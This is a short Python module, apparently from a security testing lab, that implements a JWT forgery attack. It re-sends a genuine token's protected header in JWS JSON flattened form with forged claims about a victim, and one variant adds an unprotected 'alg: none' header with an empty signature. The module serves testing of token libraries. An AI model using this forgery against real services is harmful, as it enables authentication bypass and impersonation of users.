"""Send a token as JSON, with a second header that no signature covers.

Exploits a library that reads tokens in the form of JSON, too. There a token may have an unprotected
header, and a reader that mixes the two lets it choose the algorithm.
Source: RFC 7519, section 3 JSON Web Token (JWT) Overview (JWTs are always compact),
https://www.rfc-editor.org/rfc/rfc7519#section-3
"""

import json

from attacks.lab.attack import attack
from attacks.lab.forge import encode
from attacks.lab.outcome import Outcome, judge
from attacks.lab.target import Target


@attack(door="token-unchecked")
def run(target: Target) -> Outcome:
    """Write a token about the victim in the flattened form (RFC 7515, section 7.2.2)."""
    victim = target.enrol()
    header, _, signature = target.genuine_token.split(".")
    forged = {"protected": header, "payload": encode(target.claims_about(victim))}
    none = {**forged, "header": {"alg": "none"}, "signature": ""}
    return judge(
        {
            "as JSON": target.read(json.dumps({**forged, "signature": signature})),
            "as JSON, with alg none beside it": target.read(json.dumps(none)),
        }
    )
